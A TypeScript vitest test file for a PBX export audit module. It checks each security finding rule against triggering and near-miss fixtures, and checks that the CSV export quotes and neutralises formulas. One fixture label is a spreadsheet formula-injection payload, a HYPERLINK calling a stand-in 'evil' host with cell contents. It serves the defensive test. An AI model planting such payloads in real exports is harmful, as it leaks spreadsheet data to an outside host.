// The findings of an exported configuration (shared/findings.ts, SPEC F6): every rule is reported (also with
// nothing found), most severe first; for each rule one export that triggers it (the right items, counted)
// and a near miss that does not; the CSV is RFC 4180 with CRLF and neutralises formulas.
import { describe, expect, it } from 'vitest';
import { PbxExportSchema, type PbxExport } from '../../shared/export.js';
import {
  FINDING_RULES, FindingRuleIds, SEVERITY_RANK, findingsCsv, runFindings, type Finding, type FindingRuleId,
} from '../../shared/findings.js';
import {
  FIXTURE_NOW, account, addressBan, device, exportFixture, extension, extensionLock, hexId, mapping, passkey, template, token,
} from '../helpers/export-fixture.js';

function find(x: PbxExport, rule: FindingRuleId): Finding {
  PbxExportSchema.parse(x); // every fixture is a valid export
  const f = runFindings(x, FIXTURE_NOW).find((r) => r.rule === rule);
  if (!f) throw new Error(`rule ${rule} missing`);
  return f;
}

interface Case {
  /** An export that triggers the rule, and the keys of the affected items (in order). */
  hit: (x: PbxExport) => void;
  keys: string[];
  /** A near miss: looks alike, must not trigger the rule. */
  miss: (x: PbxExport) => void;
}

const CASES: Record<FindingRuleId, Case> = {
  admin_no_password: {
    hit: (x) => x.accounts.push(account('ops', { hasPassword: false, passwordSetAt: null, warnings: ['no_password'] }), account('rec', { role: 'receptionist' })),
    keys: ['ops'],
    miss: (x) => x.accounts.push(account('ops', { role: 'receptionist', passwordSetAt: null })),
  },
  audit_chain_broken: {
    hit: (x) => (x.audit.verify = { ok: false, checked: 5, lastId: 10, headHash: null, broken: { id: 6, reason: 'edited', message: 'record #6 was edited' } }),
    keys: ['6'],
    miss: (x) => (x.audit.verify = { ok: true, checked: 0, lastId: null, headHash: null, broken: null }),
  },
  admin_allowlist_empty: {
    hit: (x) => (x.adminAllowlist.entries = []),
    keys: ['admin-allowlist'],
    miss: (x) => (x.adminAllowlist.entries = ['192.0.2.0/24', '2001:db8::/32']),
  },
  default_voicemail_pin: {
    hit: (x) => x.extensions.push(
      extension('1001', { credentials: { voicemail_pin: { isDefault: true, meetsCurrentPolicy: null } } }),
      extension('1002'),
      extension('1003', { type: 'queue', credentials: { voicemail_pin: { isDefault: true } } }),
    ),
    keys: ['1001', '1003'],
    miss: (x) => x.extensions.push(
      // inactive, or no mailbox: the default PIN opens nothing
      extension('1001', { status: 'inactive', credentials: { voicemail_pin: { isDefault: true } } }),
      extension('1002', { voicemail: false, credentials: { voicemail_pin: { isDefault: true } } }),
    ),
  },
  tokens_outside_allowlist: {
    hit: (x) => x.tokens.push(
      token(hexId(1), { lastUsedFrom: '198.51.100.7' }),
      token(hexId(2), { lastUsedAt: null, lastUsedFrom: null, createdFrom: '2001:db8::1' }),
      token(hexId(3), { lastUsedFrom: '10.20.30.40' }),
    ),
    keys: [hexId(1), hexId(2)],
    miss: (x) => {
      // with an empty allowlist there is nothing to be outside of (that is its own finding)
      x.adminAllowlist.entries = [];
      x.tokens.push(token(hexId(1), { lastUsedFrom: '198.51.100.7' }));
    },
  },
  permanent_extension_locks: {
    hit: (x) => x.lockouts.extensions.push(
      extensionLock('1001', 'voicemail', { permanent: true, lockedUntil: null, recentLocks: 3 }),
      extensionLock('1001', 'keypad'),
    ),
    keys: ['1001/voicemail'],
    miss: (x) => x.lockouts.extensions.push(extensionLock('1001', 'voicemail', { recentLocks: 2 })),
  },
  duplicate_macs: {
    hit: (x) => {
      x.hotdesk.templates.push(template(1));
      // the same phone in two notations, and two extensions mapped to one phone
      x.hotdesk.devices.push(device('00:15:65:AA:00:01'), device('001565aa0001', { model: 'T46U' }), device('00:15:65:AA:00:02'));
      x.extensions.push(extension('1001'), extension('1002'));
      x.hotdesk.mappings.push(mapping('1001', { mac: '00:15:65:AA:00:03' }), mapping('1002', { mac: '00-15-65-aa-00-03' }));
    },
    keys: ['00:15:65:AA:00:01', '00:15:65:AA:00:03'],
    miss: (x) => {
      // one device and its one mapping share a MAC: that is the point of a mapping
      x.hotdesk.templates.push(template(1));
      x.hotdesk.devices.push(device('00:15:65:AA:00:01'), device('00:15:65:AA:00:02'));
      x.extensions.push(extension('1001'), extension('1002'));
      x.hotdesk.mappings.push(mapping('1001', { mac: '00:15:65:AA:00:01' }), mapping('1002'));
    },
  },
  api_basic_auth: {
    hit: (x) => x.accounts.push(account('script', { apiAccess: true })),
    keys: ['script'],
    miss: (x) => x.accounts.push(account('script', { apiAccess: false })),
  },
  protection_off: {
    hit: (x) => x.extensions.push(extension('1001', { protection: { enabled: false } }), extension('1002')),
    keys: ['1001'],
    miss: (x) => x.extensions.push(
      // only phone terminals can be protected; an inactive number is not in use
      extension('1001', { type: 'fax', protection: { enabled: false } }),
      extension('1002', { status: 'inactive', protection: { enabled: false } }),
    ),
  },
  pin_not_compliant: {
    hit: (x) => x.extensions.push(
      extension('1001', { credentials: { voicemail_pin: { compliant: false, meetsCurrentPolicy: false } } }),
      extension('1002', { credentials: { login_code: { set: true, setAt: '2030-01-01T00:00:00Z', compliant: true, meetsCurrentPolicy: false } } }),
      extension('1003', { credentials: { voicemail_pin: { compliant: false, meetsCurrentPolicy: null }, user_password: { set: true, compliant: false } } }),
    ),
    keys: ['1001', '1002', '1003'],
    miss: (x) => x.extensions.push(
      extension('1001'),
      // not set: nothing to comply; inactive: nothing in use
      extension('1002', { credentials: { login_code: { set: false, compliant: false } } }),
      extension('1003', { status: 'inactive', credentials: { voicemail_pin: { compliant: false } } }),
      extension('1004', { credentials: null }),
    ),
  },
  stale_tokens: {
    hit: (x) => x.tokens.push(
      token(hexId(1), { lastUsedAt: '2030-03-01T00:00:00.000Z' }), // 92 days before FIXTURE_NOW
      token(hexId(2), { createdAt: '2030-02-01T00:00:00.000Z', lastUsedAt: null, lastUsedFrom: null }),
      token(hexId(3)),
    ),
    keys: [hexId(1), hexId(2)],
    miss: (x) => x.tokens.push(
      token(hexId(1), { createdAt: '2029-01-01T00:00:00.000Z', lastUsedAt: '2030-03-04T00:00:00.000Z' }), // 89 days: used lately
      token(hexId(2), { createdAt: '2030-03-04T00:00:00.000Z', lastUsedAt: null, lastUsedFrom: null }),
    ),
  },
  orphan_tokens_passkeys: {
    hit: (x) => {
      x.tokens.push(token(hexId(1), { username: 'gone' }), token(hexId(2)));
      x.passkeys.push(passkey(hexId(3), { username: 'gone' }), passkey(hexId(4)));
    },
    keys: [hexId(1), hexId(3)],
    miss: (x) => {
      x.accounts.push(account('Gone'));
      x.tokens.push(token(hexId(1), { username: 'Gone' }));
      x.passkeys.push(passkey(hexId(3), { username: 'Gone' }));
    },
  },
  mapping_inactive_extension: {
    hit: (x) => {
      x.hotdesk.templates.push(template(1));
      x.extensions.push(extension('1001', { status: 'inactive' }), extension('1002'));
      x.hotdesk.mappings.push(mapping('1001'), mapping('1002'), mapping('1999', { mac: '00:15:65:AA:00:09' }));
      x.hotdesk.devices.push(device('00:15:65:AA:00:01', { state: 'logged_in', extension: '1001' }));
    },
    keys: ['00:15:65:AA:00:01', '1001', '1999'],
    miss: (x) => {
      x.hotdesk.templates.push(template(1));
      x.extensions.push(extension('1002'), extension('1003', { status: 'inactive' }));
      x.hotdesk.mappings.push(mapping('1002'));
      // a logged-out phone remembers nobody
      x.hotdesk.devices.push(device('00:15:65:AA:00:01', { state: 'logged_out', extension: null }), device('00:15:65:AA:00:02', { state: 'logged_in', extension: '1002' }));
    },
  },
  pin_policy_weak: {
    hit: (x) => {
      const vm = x.policies.pin.find((p) => p.kind === 'voicemail_pin')!;
      vm.policy = { ...vm.policy, minLength: 3, maxRepeatedDigits: null };
      vm.preset = null;
    },
    keys: ['voicemail_pin'],
    miss: (x) => {
      // stricter, and a longer maximum, are not weaker
      const vm = x.policies.pin.find((p) => p.kind === 'voicemail_pin')!;
      vm.policy = { ...vm.policy, minLength: 6, maxLength: 15, historyCount: 5 };
    },
  },
  lockout_policy_weak: {
    hit: (x) => {
      const p = x.policies.lockout.policy;
      p.extension.threshold = 20;
      p.address.banSeconds = 60;
      p.permanentAfterLocks = 0;
    },
    keys: ['extension.threshold', 'address.banSeconds', 'permanentAfterLocks'],
    miss: (x) => {
      const p = x.policies.lockout.policy;
      p.extension.threshold = 3;
      p.extension.lockSeconds = 3600;
      p.permanentAfterLocks = 2;
    },
  },
  pin_compliance_unknown: {
    hit: (x) => x.extensions.push(extension('1001', { credentials: { voicemail_pin: { meetsCurrentPolicy: null } } })),
    keys: ['1001'],
    miss: (x) => x.extensions.push(
      // a default PIN is not "set by the user"; an older server does not say (undefined)
      extension('1001', { credentials: { voicemail_pin: { isDefault: true, meetsCurrentPolicy: null } } }),
      extension('1002', { credentials: { voicemail_pin: { meetsCurrentPolicy: undefined } } }),
    ),
  },
  permanent_address_bans: {
    hit: (x) => x.lockouts.addresses.push(
      addressBan(1, '198.51.100.0/24', { addedBy: 'manual', createdBy: 'admin', reason: 'scanner', expiresAt: null }),
      addressBan(2, '203.0.113.9'),
    ),
    keys: ['198.51.100.0/24'],
    miss: (x) => x.lockouts.addresses.push(addressBan(2, '203.0.113.9')),
  },
  voicemail_trusted: {
    hit: (x) => x.extensions.push(extension('1001', { voicemailTrusted: true }), extension('1002')),
    keys: ['1001'],
    miss: (x) => x.extensions.push(extension('1001', { voicemailTrusted: true, voicemail: false }), extension('1002', { voicemailTrusted: undefined })),
  },
  hotdesk_password_unset: {
    hit: (x) => {
      x.hotdesk.devices.push(device('00:15:65:AA:00:01'));
      x.hotdesk.passwords.user = { kind: 'user', set: false, setAt: null, setBy: null };
    },
    keys: ['user'],
    miss: (x) => {
      // no hot-desk phone in use: the passwords are not needed
      x.hotdesk.passwords.user = { kind: 'user', set: false, setAt: null, setBy: null };
      x.hotdesk.passwords.admin = { kind: 'admin', set: false, setAt: null, setBy: null };
    },
  },
};

describe('runFindings', () => {
  it('reports every rule, most severe first, nothing found in a clean export', () => {
    const x = exportFixture();
    expect(PbxExportSchema.parse(x)).toBeTruthy();
    const f = runFindings(x, FIXTURE_NOW);
    expect(f.map((r) => r.rule).sort()).toEqual([...FindingRuleIds].sort());
    expect(f.every((r) => r.count === 0 && r.rows.length === 0)).toBe(true);
    for (let i = 1; i < f.length; i++) expect(SEVERITY_RANK[f[i - 1]!.severity]).toBeLessThanOrEqual(SEVERITY_RANK[f[i]!.severity]);
    // each finding carries its rule's words
    for (const r of f) {
      const rule = FINDING_RULES.find((d) => d.id === r.rule)!;
      expect(r).toMatchObject({ severity: rule.severity, title: rule.title, explanation: rule.explanation, fix: rule.fix });
      expect(rule.explanation.length).toBeGreaterThan(40);
      expect(rule.fix.length).toBeGreaterThan(20);
    }
  });

  it('has a case for every rule', () => {
    expect(Object.keys(CASES).sort()).toEqual([...FindingRuleIds].sort());
  });

  describe.each(Object.entries(CASES) as [FindingRuleId, Case][])('%s', (rule, c) => {
    it('triggers with the affected items, counted', () => {
      const f = find(exportFixture(c.hit), rule);
      expect(f.rows.map((r) => r.key)).toEqual(c.keys);
      expect(f.count).toBe(c.keys.length);
      for (const r of f.rows) {
        expect(r.label).not.toBe('');
        expect(r.detail).not.toBe('');
      }
    });
    it('does not trigger on a near miss', () => {
      const f = find(exportFixture(c.miss), rule);
      expect(f.rows).toEqual([]);
      expect(f.count).toBe(0);
    });
  });

  it('says why in the rows: a stale token counts its days, an outside token names the address', () => {
    const x = exportFixture((e) => e.tokens.push(token(hexId(1), { lastUsedAt: '2030-03-01T00:00:00.000Z', lastUsedFrom: '198.51.100.7' })));
    const f = runFindings(x, FIXTURE_NOW);
    expect(f.find((r) => r.rule === 'stale_tokens')!.rows[0]!.detail).toContain('92 days ago');
    expect(f.find((r) => r.rule === 'tokens_outside_allowlist')!.rows[0]!.detail).toContain('198.51.100.7');
  });

  it('flags an allowlist entry that matches every address', () => {
    const f = find(exportFixture((x) => (x.adminAllowlist.entries = ['10.0.0.0/8', '0.0.0.0/0'])), 'admin_allowlist_empty');
    expect(f.rows.map((r) => r.key)).toEqual(['0.0.0.0/0']);
  });

  it('lists several non-compliant credentials of one extension in one row', () => {
    const f = find(
      exportFixture((x) => x.extensions.push(extension('1001', {
        credentials: { voicemail_pin: { compliant: false }, phone_password: { set: true, setAt: '2030-01-02T00:00:00Z', compliant: false } },
      }))),
      'pin_not_compliant',
    );
    expect(f.count).toBe(1);
    expect(f.rows[0]!.detail).toMatch(/voicemail PIN.*phone password/);
  });
});

/** A small RFC 4180 reader, to read back what was written. */
function readCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      out.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return out;
}

describe('findingsCsv', () => {
  const x = exportFixture((e) => {
    e.extensions.push(
      extension('1001', { label: '=HYPERLINK("http://evil/"&A1)', protection: { enabled: false } }),
      extension('1002', { label: 'Smith, "Jo"\nline two', protection: { enabled: false } }),
    );
    e.accounts.push(account('@ops', { apiAccess: true }));
  });
  const findings = runFindings(x, FIXTURE_NOW);
  const csv = findingsCsv(findings, { pbx: 'Test PBX', exportedAt: x.exportedAt });

  it('has a header and one row per affected item, CRLF line ends', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')[0]).toBe('pbx,exported_at,rule,severity,title,key,label,detail');
    const rows = readCsv(csv);
    const total = findings.reduce((n, f) => n + f.count, 0);
    expect(rows).toHaveLength(1 + total);
    expect(rows.every((r) => r.length === 8)).toBe(true);
    expect(rows.filter((r) => r[2] === 'protection_off').map((r) => r[5])).toEqual(['1001', '1002']);
  });

  it('neutralises formulas and quotes commas, quotes and newlines', () => {
    const rows = readCsv(csv);
    const byKey = (k: string) => rows.find((r) => r[2] === 'protection_off' && r[5] === k)!;
    expect(byKey('1001')[6]).toBe('1001 =HYPERLINK("http://evil/"&A1)');
    expect(byKey('1002')[6]).toBe('1002 Smith, "Jo"\nline two');
    const ops = rows.find((r) => r[2] === 'api_basic_auth')!;
    expect(ops[5]).toBe("'@ops");
    // no cell of the file starts with a formula character
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('neutralises a label that starts with "="', () => {
    const f: Parameters<typeof findingsCsv>[0] = [{
      rule: 'protection_off', severity: 'medium', title: 't', explanation: 'e', fix: 'f', count: 1,
      rows: [{ key: '1001', label: '=1+2', detail: '+cmd' }],
    }];
    const rows = readCsv(findingsCsv(f, { pbx: '-pbx', exportedAt: '2030-06-01' }));
    expect(rows[1]).toEqual(["'-pbx", '2030-06-01', 'protection_off', 'medium', 't', '1001', "'=1+2", "'+cmd"]);
  });

  it('is only a header when nothing was found', () => {
    expect(findingsCsv(runFindings(exportFixture(), FIXTURE_NOW), { pbx: 'p', exportedAt: 'e' })).toBe('pbx,exported_at,rule,severity,title,key,label,detail\r\n');
  });
});
